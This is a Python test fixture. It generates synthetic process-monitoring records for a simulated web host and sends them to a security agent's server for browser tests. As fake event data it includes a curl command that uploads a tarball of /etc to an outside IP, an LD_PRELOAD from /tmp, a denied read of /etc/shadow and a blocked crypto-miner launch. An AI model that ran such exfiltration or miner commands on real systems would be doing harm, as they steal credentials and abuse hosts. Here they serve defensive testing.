#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A host whose processes have lives, told in records of the form that the agent writes: who started whom, what was executed with
which arguments, what was refused, what ended how. Called by tests/browser/processes.mjs.

    lives.py PORT DIR TOKEN

Prints the host's id and the entities of the processes as one line of JSON, then does what standard input says, a word a line, and
answers "done": `end` (the editor ends), `more` (a shell begins another program). Ends with its input.
"""

import json
import pathlib
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "security"))
from link import Host  # noqa: E402


class Rig:
    class server:
        port = 0

        @staticmethod
        def secret(_name, text):
            return text

    def __init__(self, port, place, token):
        self.server.port, self.place, self._token = port, pathlib.Path(place), token

    def token(self):
        return self._token


class Lives:
    """Processes by pid, and the records of what they do."""

    def __init__(self, host):
        self.host, self.boot, self.n = host, host.facts["boot_id"], 0
        self.now, self.known, self.lines = int(time.time() * 1000) - 3_600_000, {}, []

    def uid(self, pid):
        return f"{self.boot}:{pid}:{pid * 7}"

    def add(self, pid, parent, path, cmd, user="root", **more):
        self.known[pid] = {"pid": pid, "parent": parent, "path": path, "cmd": cmd, "user": user, "started": self.now, **more}

    def part(self, pid):
        p = self.known[pid]
        name = p["path"].rsplit("/", 1)[1]
        above, at = [], p["parent"]
        while at:
            above.append({"pid": at, "uid": self.uid(at), "path": self.known[at]["path"]})
            at = self.known[at]["parent"]
        part = {"pid": pid, "uid": self.uid(pid), "name": name, "cmd_line": p["cmd"], "created_time": p["started"],
                "file": {"path": p["path"], "name": name, "type_id": 8}, "user": {"uid": "0", "name": p["user"]}, "auid": 1000,
                "group": {"uid": "0", "name": p["user"]}}
        if above:
            part["parent_process"] = {**above[0], "name": above[0]["path"].rsplit("/", 1)[1]}
            part["ancestry"] = above
        return part

    def record(self, pid, message, **members):
        self.n += 1
        self.now += members.pop("after", 700)
        login = self.known[pid].get("login")
        actor = {"process": self.part(pid)}
        if login:
            actor = {"user": {"uid": "1000", "name": login}, "session": {"uid": "3", "issuer": "ssh", "is_remote": True}, **actor}
        self.lines.append({"category_uid": 1, "severity_id": 1, "status_id": 1, "device": {"hostname": self.host.name, "type_id": 0},
                           "metadata": {"version": "1.8.0", "uid": f"{self.boot}:7:process:0:{self.n}", "sequence": self.n},
                           "actor": actor, "time": self.now, "message": message,
                           "unmapped": {"cgroup": "/user.slice/user-1000.slice/session-3.scope"}, **members})

    def begin(self, parent, pid, path, cmd, user=None, process=(), unmapped=(), **more):
        """Forked by its parent, then another program."""
        old, login = self.known[parent], self.known[parent].get("login")
        self.add(pid, parent, old["path"], old["cmd"], old["user"], login=login)
        self.record(parent, f"started process {pid}", class_uid=1007, activity_id=1, launch_type_id=2, process=self.part(pid))
        before = self.part(pid)
        self.known[pid].update(path=path, cmd=cmd, user=user or old["user"])
        self.record(pid, f"executed {path}", class_uid=1007, activity_id=1, launch_type_id=3, **more)
        last = self.lines[-1]
        last["actor"]["process"] = before
        last["process"] = {**self.part(pid), "working_directory": "/srv/www", **dict(process)}
        last["unmapped"].update(argument_count=len(cmd.split()), **dict(unmapped))

    def refuse(self, pid, path, cmd, rule):
        self.record(pid, f"was not allowed to execute {path}", class_uid=1007, activity_id=1, launch_type_id=3, severity_id=3, status_id=2,
                    action_id=2, disposition_id=2, is_alert=True, policy={"name": "web-host"},
                    process={**self.part(pid), "name": path.rsplit("/", 1)[1], "cmd_line": cmd, "file": {"path": path}})
        self.lines[-1]["unmapped"].update(rule=rule, rule_file="/etc/safeguard/policies/50-web.yaml", rule_line=12, verdict="deny", mode="enforce")

    def deny(self, pid, path, rule, count=1):
        self.record(pid, f"was not allowed to open {path}", class_uid=1001, activity_id=14, severity_id=3, status_id=2, action_id=2,
                    disposition_id=2, is_alert=True, count=count, policy={"name": "web-host"}, file={"path": path, "name": path.rsplit("/", 1)[1]})
        self.lines[-1]["unmapped"].update(rule=rule, hook="file_open", access=["read"], verdict="deny", mode="enforce")

    def end(self, pid, code):
        self.record(pid, f"ended with {code}", class_uid=1007, activity_id=2, exit_code=code, process=self.part(pid))

    def send(self):
        lines = [json.dumps(line).encode() for line in self.lines]
        self.lines = []
        for at in range(0, len(lines), 40):
            answer = self.host.send(lines[at:at + 40])
            if answer.status != 200:
                raise RuntimeError(f"{answer} {answer.body}")


EVERYTHING = {
    "process": {"environment_variables": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}, {"name": "SSH_CONNECTION", "value": "198.51.100.7 51515 10.0.0.9 22"}],
                "session": {"uid": "3", "issuer": "ssh", "is_remote": True, "terminal": "pts/3"}},
    "unmapped": {"script": "/srv/backup.py", "arguments": ["python3", "/srv/backup.py", "--to", "/mnt/last backup"],
                 "descriptors": [{"fd": 0, "kind": "socket", "family": "inet", "protocol": 6, "local_endpoint": {"ip": "10.0.0.9", "port": 4444},
                                  "remote_endpoint": {"ip": "198.51.100.7", "port": 51515}},
                                 {"fd": 1, "kind": "tty", "path": "/dev/pts/3", "terminal": "pts/3"}, {"fd": 2, "kind": "file", "path": "/var/log/backup.log"}],
                 "capabilities": ["CAP_DAC_READ_SEARCH", "CAP_NET_RAW"], "namespaces": {"net": 4026532222}, "launch": ["secure"]},
}


def tell(s):
    s.add(1, 0, "/usr/lib/systemd/systemd", "/sbin/init")
    s.add(650, 1, "/usr/sbin/cron", "/usr/sbin/cron -f")
    s.add(700, 1, "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx")
    s.add(812, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D")
    s.add(2301, 812, "/usr/sbin/sshd", "sshd: ann [priv]", login="ann")
    s.begin(2301, 2310, "/usr/bin/bash", "-bash", user="ann")
    s.begin(650, 3001, "/bin/sh", "/bin/sh -c 'find /var/tmp -mtime +7 -delete'")
    s.begin(3001, 3002, "/usr/bin/find", "find /var/tmp -mtime +7 -delete")
    s.end(3002, 0)
    s.end(3001, 0)
    for worker in range(701, 705):
        s.begin(700, worker, "/usr/sbin/nginx", "nginx: worker process", user="www-data")
    s.begin(2310, 2401, "/usr/bin/python3.11", "python3 /srv/backup.py --to '/mnt/last backup'", **EVERYTHING)
    file = s.lines[-1]["process"]["file"]
    file.update(hashes=[{"algorithm_id": 3, "value": "00070e151c232a31383f464d545b626970777e858c939aa1a8afb6bdc4cbd2d9"}],
                product={"name": "python3.11-minimal", "version": "3.11.2-6+deb12u3"})
    s.begin(2401, 2402, "/usr/bin/tar", "tar --create --file /mnt/last-backup/etc.tar /etc")
    s.deny(2402, "/etc/shadow", "shadow", 3)
    s.end(2402, 2)
    s.begin(2401, 2403, "/usr/bin/curl", "curl -T /mnt/last-backup/etc.tar https://203.0.113.9/put")
    s.end(2403, 22)
    s.begin(2310, 2450, "/usr/bin/vim.basic", "vim notes.txt", process={"session": {"uid": "3", "terminal": "pts/3"}})
    s.refuse(2310, "/tmp/.x/miner", "/tmp/.x/miner --pool 203.0.113.66", "no programs in /tmp")
    for k in range(30):
        s.begin(2310, 2500 + k, "/usr/bin/ls", f"ls -l /srv/{k}")
        s.end(2500 + k, 0)
    s.now = max(s.now, int(time.time() * 1000) - 30_000)
    s.send()


def main():
    rig = Rig(int(sys.argv[1]), sys.argv[2], sys.argv[3])
    host = Host(rig, "web-07")
    if host.hello().status != 200:
        raise RuntimeError("it says hello, and is not heard")
    s = Lives(host)
    tell(s)
    print(json.dumps({"id": host.id, "uids": {str(pid): s.uid(pid) for pid in s.known}}), flush=True)
    for line in sys.stdin:
        if line.strip() == "end":
            s.end(2450, 0)
        elif line.strip() == "more":
            s.begin(2310, 2600, "/usr/bin/less", "less /var/log/backup.log")
        s.send()
        print("done", flush=True)


if __name__ == "__main__":
    main()
